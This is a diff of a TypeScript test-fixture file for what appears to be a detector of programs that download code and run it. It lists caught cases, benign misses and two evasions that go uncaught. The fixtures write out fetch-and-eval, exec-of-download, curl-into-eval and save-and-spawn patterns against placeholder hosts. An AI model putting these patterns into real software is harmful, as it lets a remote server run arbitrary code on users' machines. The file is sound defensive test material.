@@ -1,69 +1,131 @@
 import type { Examples } from "@doorward/core";
 
-/** Programs that run what another computer sends, and programs that only ask. */
+/** Programs that run what a server answers, and honest ones that fetch or evaluate. */
 export const examples: Examples = {
   hits: [
     {
-      name: "an answer that is evaluated",
+      name: "a server that evaluates an answer when it starts",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => eval(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const axios = require("axios");
+axios.get("https://api.example/check").then((answer) => eval(answer.data.code));
+`,
       },
     },
     {
-      name: "an answer that becomes a function, through a file of its own",
+      name: "a Python program that runs what it downloads",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'const { get } = require("./get");\n\nget().then((text) => new Function(text)());\n',
-        "get.js": 'exports.get = async () => (await fetch("https://cdn.example/agent.js")).text();\n',
+        "main.py": `import requests
+exec(requests.get("https://api.example/check").text)
+`,
       },
     },
     {
-      name: "a program of Python that runs what it downloads",
-      files: { "main.py": 'import requests\n\nexec(requests.get("https://cdn.example/agent.py").text)\n' },
+      name: "text that reaches evaluation over an event",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { EventEmitter } = require("events");
+const bus = new EventEmitter();
+bus.on("ready", (text) => new Function(text)());
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => bus.emit("ready", text));
+`,
+      },
+    },
+    {
+      name: "an answer that a download program prints",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const { execSync } = require("child_process");
+eval(execSync("curl -s https://api.example/check").toString());
+`,
+      },
+    },
+    {
+      name: "a download that is saved and started",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const fs = require("fs");
+const { spawn } = require("child_process");
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => {
+  fs.writeFileSync("/tmp/cache-check.js", text);
+  spawn("node", ["/tmp/cache-check.js"]);
+});
+`,
+      },
     },
   ],
   misses: [
     {
-      name: "an answer that is shown",
-      why: "Nothing that came is run.",
+      name: "a request whose answer is shown",
+      why: "The answer is data, and nothing of it is run.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'fetch("https://data.example/list.json").then((answer) => answer.json()).then(console.log);\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("https://api.example/check").then((answer) => answer.json()).then((data) => console.log(data.price));
+`,
       },
     },
     {
-      name: "a loader that runs what its caller names",
-      why: "A library asks whatever it is told to, and this project tells it nothing.",
+      name: "a module loader that fetches what its user names",
+      why: "The library asks no address of its own; whoever uses it decides.",
       files: {
-        "package.json": '{\n  "name": "shop",\n  "version": "1.0.0",\n  "main": "a.js"\n}\n',
-        "a.js":
-          "exports.load = (url) => fetch(url).then((answer) => answer.text()).then((text) => new Function(text)());\n",
+        "package.json": `{ "name": "lib", "version": "1.0.0", "main": "index.js" }
+`,
+        "index.js": `exports.load = async (address) => {
+  const answer = await fetch(address);
+  return new Function(await answer.text());
+};
+`,
       },
     },
     {
-      name: "an answer of a server on the same computer",
-      why: "What answers runs on the same machine.",
+      name: "a page that loads a script from the network",
+      why: "A browser loads scripts by address all the time, and keeps them inside the page.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("http://localhost:3000/plugin.js").then((answer) => answer.text()).then((text) => eval(text));\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `require("http").createServer().listen(3000);
+`,
+        "public/worker.js": `importScripts("https://cdn.example/messaging.js");
+`,
+      },
+    },
+    {
+      name: "a development server that evaluates its own updates",
+      why: "It asks this very computer, where the developer's own build answers.",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `fetch("http://localhost:3000/update.js").then((answer) => answer.text()).then((text) => eval(text));
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "an answer that is saved as a template and rendered by a template engine",
+      name: "a PHP page that nothing in the arrival starts",
       caughtBy: "nothing",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("https://cdn.example/page").then((answer) => answer.text()).then((text) => require("fs").writeFileSync("page.txt", text));\n',
+        "index.php": `<?php
+$answer = file_get_contents("https://api.example/check");
+eval($answer);
+`,
+      },
+    },
+    {
+      name: "an answer that is kept in a database before it is run",
+      caughtBy: "nothing",
+      files: {
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const db = require("better-sqlite3")("cache.db");
+fetch("https://api.example/check").then((answer) => answer.text()).then((text) => db.prepare("INSERT INTO jobs VALUES (?)").run(text));
+setInterval(() => eval(db.prepare("SELECT text FROM jobs").pluck().get()), 1000);
+`,
       },
     },
   ],
